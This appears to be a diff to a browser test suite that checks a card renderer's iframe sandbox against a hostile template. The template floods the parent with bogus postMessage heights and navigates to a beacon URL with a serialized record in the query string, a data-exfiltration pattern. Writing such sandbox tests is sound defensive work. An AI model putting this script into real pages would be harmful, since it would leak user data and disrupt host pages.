@@ -195,7 +195,7 @@ const HOSTILE = (beacon: string) => `<div id="told">waiting</div><script>
     setInterval(() => parent.postMessage({ height: 1e9 }, '*'), 5);
     for (const height of [NaN, -1, 'x', null, {}]) parent.postMessage({ height }, '*');
     parent.postMessage(null, '*');
-    setTimeout(() => { location = '${beacon}/self?' + encodeURIComponent(JSON.stringify(record)); }, 1000);
+    setTimeout(() => { location = '${beacon}/self?' + encodeURIComponent(JSON.stringify(record)); }, 1500);
   });
 </script>`;
 
@@ -233,7 +233,8 @@ test('isolates a hostile template from the page and the network', async ({ page,
     const told = page.frameLocator('iframe[title="Card: content"]').locator('#told');
     // The template navigates away soon after its report.
     let text = '';
-    await expect.poll(async () => (text = await told.innerText({ timeout: 500 }).catch(() => ''))).toContain('fetch');
+    const read = async () => (text = await told.innerText({ timeout: 500 }).catch(() => ''));
+    await expect.poll(read, { intervals: [100] }).toContain('fetch');
     expect(JSON.parse(text)).toEqual({
       cookie: 'SecurityError',
       storage: 'SecurityError',
